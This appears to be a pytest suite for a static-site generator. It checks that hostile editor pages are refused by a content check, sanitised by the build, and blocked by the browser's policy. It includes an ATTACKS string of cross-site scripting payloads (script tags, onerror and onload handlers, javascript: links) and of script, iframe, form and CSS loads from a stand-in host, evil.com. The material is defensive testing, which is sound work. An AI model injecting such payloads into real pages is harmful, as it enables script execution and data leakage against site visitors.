"""No page of an editor's does anything to its reader: the check refuses it, the build cleans it, the browser does not run it.

Each wall is tried without the others: the check alone; the build without the check and with the browser's policy off; the
browser with pages that nothing has cleaned.
"""

from __future__ import annotations

import gc
import os
import re
import resource
import shutil
import subprocess
import sys
from collections import defaultdict
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page

from broadside.frontmatter import parse_document
from broadside.sanitising import bodies, check_body
from built.building import make_environment
from built.conftest import chromium  # noqa: F401  the same Chromium
from built.serving import serve_files
from sites import REPOSITORY, find_problems, printing_alone

from .corpus import COSTLY, HARMLESS, Hostile, make_hostile_site, read_corpus

CORPUS = read_corpus()
QUICK = tuple(each for each in CORPUS if each.expected not in COSTLY)
SLOW = tuple(each for each in CORPUS if each.expected in COSTLY)
MEMORY_MAX = 500 * 1024
"""kB, as the kernel counts them."""
WATCH = """
window.canary = 0;
for (const name of ["alert", "confirm", "prompt", "open"]) window[name] = () => { window.canary++ };
"""
PROVOKE = """
() => {
  const found = [], hosts = [location.hostname, "safety.example"], say = each => found.push(each.outerHTML);
  const inside = [...document.querySelectorAll(".bs-body, .bs-body *, .bs-standfirst *, .md-nav *, main h1, main h1 *, main dl *")];
  const own = new Set([...document.querySelectorAll("[id]")].filter(each => !each.closest(".bs-body")).map(each => each.id));
  const events = ["mouseover", "focus", "click", "animationstart", "toggle"];
  const forbidden = "script, style, iframe, object, embed, form, base, meta, link, svg, math, template, dialog";
  addEventListener("click", event => event.preventDefault(), true);
  for (const each of inside) {
    for (const { name } of each.attributes) if (name.startsWith("on")) say(each);
    for (const type of events) each.dispatchEvent(new Event(type, { bubbles: true, cancelable: true }));
    if (each.href && !["http:", "https:", "mailto:", "tel:"].includes(each.protocol)) say(each);
    if (each.hostname && each.protocol.startsWith("http") && !hosts.includes(each.hostname)) say(each);
    if (!each.closest(".bs-body")) continue;
    if (each.id && own.has(each.id)) found.push(`a second #${each.id}`);
    if (["fixed", "sticky"].includes(getComputedStyle(each).position) || each.matches(forbidden)) say(each);
  }
  if (!(document.body instanceof HTMLBodyElement) || typeof document.getElementById !== "function") found.push("document");
  return [...found, ...(window.canary ? [`canary ${window.canary}`] : [])];
}
"""


def split(page: Hostile) -> str:
    """Return the body of a hostile page."""
    return parse_document(page.at, page.file.read_bytes(), required=False)[0].body


def test_the_index_names_every_file() -> None:
    assert {each.file for each in CORPUS} == set((Path(__file__).parent / "pages").iterdir())
    assert len({each.at for each in CORPUS}) == len(CORPUS) > 150


def test_the_check_refuses_what_is_hostile_and_nothing_else(tmp_path: Path) -> None:
    found = defaultdict(set)
    for problem in find_problems(make_hostile_site(tmp_path, QUICK)):
        found[problem.path].add(problem.rule)
    expected = {each.at: each.expected for each in QUICK if each.expected != HARMLESS}
    assert {at: rule if rule in found[at] else found[at] for at, rule in expected.items()} == expected
    assert found.keys() == expected.keys()


def test_what_would_take_minutes_or_all_memory_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bodies, "PAGE_SECONDS", 0.5)  # each of them needs ten, and the whole two are waited for elsewhere
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    gc.disable()  # the end of the time must not come within what others have hung on the collector: there it is swallowed
    try:
        refused = {each.name: [problem.rule for problem in check_body(each.at, split(each), 1, ())] for each in SLOW}
    finally:
        gc.enable()
    assert refused == {each.name: [each.expected] for each in SLOW}
    assert max(before, MEMORY_MAX) >= resource.getrusage(resource.RUSAGE_SELF).ru_maxrss


def build_unchecked(config: Path, target: Path) -> subprocess.CompletedProcess[str]:
    """Build a site past its check."""
    script = Path(__file__).parent / "build_unchecked.py"
    environment = make_environment(BROADSIDE_PRESS="false", PYTHONPATH=str(REPOSITORY / "hooks"))
    command = [sys.executable, str(script), "-f", str(config), "-d", str(target)]
    return subprocess.run(
        command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env={**os.environ, **environment}, check=False
    )


def test_a_build_past_the_check_stops_at_a_page_that_takes_minutes(tmp_path: Path) -> None:
    (slow,) = (each for each in SLOW if each.name == "slow-cdata")
    done = build_unchecked(make_hostile_site(tmp_path / "source", [slow]), tmp_path / "site")
    assert done.returncode == 1
    assert "docs/slow-cdata.md:1:1: the page was still not laid out after 4 seconds of computing." in done.stdout
    assert "Traceback" not in done.stdout


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A site of all pages that a build survives, built past the check."""
    folder = tmp_path_factory.mktemp("hostile")
    with printing_alone():
        done = build_unchecked(make_hostile_site(folder / "source", QUICK), folder / "site")
    assert done.returncode == 0, done.stdout
    taken = set(re.findall(r"(\S+\.md): taken out", done.stdout))
    silent = {"host-unknown", "letter-alike", "link-missing", "image-missing"}
    assert taken >= {each.at for each in QUICK if each.expected not in {HARMLESS, *silent}}
    assert not taken & {each.at for each in QUICK if each.expected == HARMLESS}
    return folder / "site"


@pytest.fixture(scope="module")
def hostile_origin(hostile_site: Path) -> Iterator[str]:
    """Its address."""
    with serve_files(hostile_site) as address:
        yield address


@pytest.fixture
def unguarded(chromium: Browser) -> Iterator[BrowserContext]:  # noqa: F811
    """A browser that heeds no policy of a page or server."""
    context = chromium.new_context(bypass_csp=True, service_workers="block")
    context.add_init_script(WATCH)
    yield context
    context.close()


def watch(page: Page, origin: str) -> list[str]:
    """Return a list that fills with each request, dialog, navigation and window that a page should not have made."""
    faults: list[str] = []
    page.on("request", lambda request: None if request.url.startswith((origin, "data:")) else faults.append(request.url))
    page.on("dialog", lambda dialog: faults.append(dialog.message))
    page.on("popup", lambda popup: faults.append(popup.url))
    page.on("framenavigated", lambda frame: None if frame.url.startswith(origin) else faults.append(frame.url))
    return faults


LISTS = ("", "notices/", "knowledge/", "lessons/", "campaigns/", "slogans/")
FOR_SCRIPTS = ("class-", "data-", "id-", "name-", "front-", "template-", "toc-")
"""Pages that try to do something to the theme's scripts, or through them; the others are opened without these, in half the time."""


@pytest.mark.parametrize("has_scripts", [False, True])
def test_a_cleaned_page_does_nothing_even_where_scripts_may_run(
    unguarded: BrowserContext, hostile_origin: str, *, has_scripts: bool
) -> None:
    page = unguarded.new_page()
    if not has_scripts:
        session = unguarded.new_cdp_session(page)  # by the browser: to be asked about each request takes longer
        session.send("Network.enable")
        session.send("Network.setBlockedURLs", {"urls": ["*.js"]})
    faults = watch(page, hostile_origin)
    seen: dict[str, list[str]] = {}
    addresses = [each.address for each in QUICK if each.name.startswith(FOR_SCRIPTS) == has_scripts]
    for address in [*addresses, *(LISTS if has_scripts else ())]:
        answer = page.goto(hostile_origin + address)
        assert answer is not None
        assert answer.ok, address
        found = [*page.evaluate(PROVOKE), *faults]
        if found or page.url != hostile_origin + address:
            seen[address] = [page.url, *found]
        faults.clear()
    assert seen == {}


def test_what_search_shows_does_nothing(unguarded: BrowserContext, hostile_origin: str) -> None:
    page = unguarded.new_page()
    faults = watch(page, hostile_origin)
    page.goto(hostile_origin)
    page.keyboard.press("/")
    page.keyboard.type("onerror")
    page.locator(".bs-found__list a").first.wait_for()
    assert page.locator(".bs-found__list :is(img[onerror], script)").count() == 0
    assert page.evaluate("window.canary") == 0
    assert faults == []


ATTACKS = """
<script>window.canary++</script><img src="x" onerror="window.canary++"><svg onload="window.canary++"></svg>
<script src="https://evil.example/x.js"></script><script src="data:text/javascript,window.canary++"></script>
<img src="https://evil.example/x.png"><link rel="stylesheet" href="https://evil.example/x.css">
<iframe srcdoc="<script>parent.canary++</script>"></iframe><iframe src="https://evil.example/"></iframe>
<object data="https://evil.example/"></object><embed src="https://evil.example/">
<base href="https://evil.example/"><details open ontoggle="window.canary++">a</details>
<a id="attack" href="javascript:window.canary++">a</a><form action="https://evil.example/"><button id="send">a</button></form>
<style>*{background-image:url(https://evil.example/s)}</style>
"""


@pytest.mark.parametrize("from_disk", [False, True])
def test_a_page_that_nothing_has_cleaned_does_nothing_either(
    chromium: Browser,  # noqa: F811
    hostile_site: Path,
    tmp_path: Path,
    *,
    from_disk: bool,
) -> None:
    site = tmp_path / "site"
    shutil.copytree(hostile_site, site)
    file = site / "comment/index.html"
    text = file.read_text("utf-8")
    assert '<div class="bs-body">' in text
    file.write_text(text.replace('<div class="bs-body">', f'<div class="bs-body">{ATTACKS}'), "utf-8")
    context = chromium.new_context(service_workers="block")
    context.add_init_script(WATCH)
    page = context.new_page()
    out: list[str] = []
    with serve_files(site) as served:
        origin = f"{site.as_uri()}/" if from_disk else served
        # The policy stops a request before it leaves; any other failure means that it was tried.
        page.on("requestfailed", lambda request: None if request.failure == "csp" else out.append(request.url))
        page.on("requestfinished", lambda request: out.append(request.url))
        page.goto(f"{origin}comment/index.html", wait_until="load")
        page.evaluate("for (const each of document.querySelectorAll('#attack, #send')) each.click()")
        assert page.evaluate("window.canary") == 0
        assert page.evaluate("document.documentElement.className.includes('js')")
        assert page.evaluate("document.baseURI") == f"{origin}comment/index.html"
        assert page.url.startswith(origin)
    context.close()
    assert [url for url in out if not url.startswith((origin, "data:"))] == []
